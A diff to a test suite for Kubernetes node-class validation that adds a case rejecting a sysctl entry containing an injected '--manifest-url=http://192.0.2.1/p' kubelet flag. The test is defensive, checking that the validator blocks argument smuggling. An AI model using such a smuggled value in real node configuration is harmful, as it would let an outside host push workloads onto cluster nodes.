@@ -200,6 +200,14 @@ describe('a class that machines cannot be made of', () => {
       { part: 'ValidationSucceeded NotInProvisionMode', message: /spec.security.customCATrustCertificates/ },
     ],
     [
+      'because a value of it, stored under an older definition, would be a flag of its own on a node',
+      { spec: () => ({ kubelet: { allowedUnsafeSysctls: ['kernel.msg*', 'a --manifest-url=http://192.0.2.1/p'] } }) },
+      {
+        part: 'ValidationSucceeded FieldInvalid',
+        message: /spec.kubelet.allowedUnsafeSysctls\[1\]: "a --manifest-url=http:\/\/192.0.2.1\/p" must match/,
+      },
+    ],
+    [
       'because AKS takes no field for confidential VMs in its mode',
       { spec: () => ({ security: { confidentialVM: {} } }), variables: asMachines },
       { part: 'ValidationSucceeded NotInProvisionMode', message: /spec.security.confidentialVM .* aksmachineapi/ },
